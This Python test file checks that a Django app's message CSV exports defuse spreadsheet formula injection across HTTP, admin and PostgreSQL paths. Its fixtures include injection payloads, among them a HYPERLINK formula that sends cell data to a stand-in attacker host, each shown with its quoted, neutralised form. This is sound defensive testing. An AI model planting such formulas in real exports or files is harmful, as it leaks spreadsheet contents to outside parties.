"""The CSV exports are safe to open in a spreadsheet (OWASP CSV injection),
through real HTTP, and PostgreSQL's COPY writes exactly what Python writes."""

import csv
import io

import pytest
from django.db import connection
from django.urls import reverse

from conversations import export_sql, exports
from conversations.csv_safety import FORMULA_LEADS, safe_text, safe_text_sql
from conversations.models import Conversation
from tests.api_support import (
    closed_conversation,
    superuser_token_client,  # noqa: F401 (the `client` fixture)
)

pytestmark = pytest.mark.django_db

URL = "/api/v1/export/messages.csv"
BOM = "\ufeff".encode()

# Message text sent -> the cell a spreadsheet is given.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': (
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    ),
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    # Already quoted: one more, so dropping one quote always restores the text.
    "'=1+1": "''=1+1",
}
HARMLESS = ["hello", "2-1", "a=b", "", " =1"]


@pytest.fixture
def hostile_archive():
    closed_conversation(
        "=cust",
        "2024-05-01T10:00:00",
        texts=(*HOSTILE, *HARMLESS),
        adviser_id="@adv",
        adviser_email="-bob@closer.app",
        first_name="=Jon",
        last_name="Snow",
        email="+jon@winterfell.com",
        phone="+48111",
    )
    # Without an adviser: NULL columns in SQL, None in Python.
    closed_conversation("cust-plain", "2024-05-02T10:00:00", texts=("-1",))
    Conversation.objects.filter(customer__closer_id="cust-plain").update(assignee=None)


def csv_of(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def download(client, **params) -> bytes:
    response = client.get(URL, params)
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def texts_by_original(client) -> dict[str, str]:
    rows = csv_of(download(client, customer="=cust"))
    return dict(zip([*HOSTILE, *HARMLESS], [row["text"] for row in rows], strict=True))


@pytest.mark.parametrize(("sent", "written"), list(HOSTILE.items()))
def test_a_text_cell_starting_with_a_formula_lead_gets_a_quote(
    client, hostile_archive, sent, written
):
    assert texts_by_original(client)[sent] == written


@pytest.mark.parametrize("sent", HARMLESS)
def test_other_text_cells_are_written_as_they_are(client, hostile_archive, sent):
    assert texts_by_original(client)[sent] == sent


def test_people_columns_are_neutralised_and_numbers_are_not(client, hostile_archive):
    row = csv_of(download(client, customer="=cust"))[0]

    assert {key: row[key] for key in exports.MESSAGE_CSV_COLUMNS[8:]} == {
        "customer_id": "'=cust",
        "customer_name": "'=Jon Snow",
        "customer_email": "'+jon@winterfell.com",
        "customer_phone": "'+48111",
        "adviser_id": "'@adv",
        "adviser_name": "Bob Holmes",
        "adviser_email": "'-bob@closer.app",
    }
    assert row["author_id"] == "'=cust"
    assert row["message_id"].isdigit()
    assert row["conversation_id"].isdigit()
    assert row["sent_at"].startswith("2024-05-01T")


def test_dropping_one_leading_quote_restores_every_text(client, hostile_archive):
    restored = [
        text[1:] if text.startswith("'") else text for text in texts_by_original(client).values()
    ]

    assert restored == [*HOSTILE, *HARMLESS]


def test_no_cell_of_the_export_starts_with_a_formula_lead(client, hostile_archive):
    body = io.StringIO(download(client).decode(), newline="")
    cells = [cell for row in csv.reader(body) for cell in row]

    assert cells
    assert not [cell for cell in cells if cell[:1] in FORMULA_LEADS]


def test_bom_1_starts_the_file_with_a_utf8_byte_order_mark(client, hostile_archive):
    with_bom = download(client, bom="1")
    without = download(client)

    assert with_bom == BOM + without
    assert not without.startswith(BOM)
    assert download(client, bom="false") == without


def test_a_bad_bom_is_a_400_naming_bom(client, hostile_archive):
    response = client.get(URL, {"bom": "maybe"})

    assert response.status_code == 400
    assert list(response.json()) == ["bom"]


def test_postgres_and_python_write_the_same_cells(hostile_archive):
    conversations = Conversation.objects.all()

    from_sql = b"".join(export_sql.message_csv(conversations)).decode()
    from_python = "".join(exports._message_rows_in_python(conversations))

    # Cell for cell (COPY also quotes an empty text, "", to tell it from NULL).
    assert list(csv.reader(io.StringIO(from_sql, newline=""))) == list(
        csv.reader(io.StringIO(from_python, newline=""))
    )
    assert "'=HYPERLINK" in from_sql


def test_the_python_rule_and_the_sql_rule_agree_on_every_leading_character():
    values = [chr(code) + "x" for code in range(1, 128)] + ["", "x", "''", "é=", "🚀"]
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {safe_text_sql('v')} FROM unnest(%s::text[]) AS t (v)",  # noqa: S608
            [values],
        )
        from_sql = [row[0] for row in cursor.fetchall()]

    assert from_sql == [safe_text(value) for value in values]


def test_the_admin_exports_are_neutralised_and_the_excel_one_has_a_bom(
    admin_client, hostile_archive
):
    changelist = reverse("admin:conversations_conversation_changelist")
    selected = [Conversation.objects.get(customer__closer_id="=cust").pk]

    bodies = {
        action: b"".join(
            admin_client.post(
                changelist, {"action": action, "_selected_action": selected}
            ).streaming_content
        )
        for action in ("export_messages_csv", "export_messages_csv_for_excel")
    }

    assert bodies["export_messages_csv_for_excel"] == BOM + bodies["export_messages_csv"]
    texts = [row["text"] for row in csv_of(bodies["export_messages_csv"])]
    assert texts[: len(HOSTILE)] == list(HOSTILE.values())
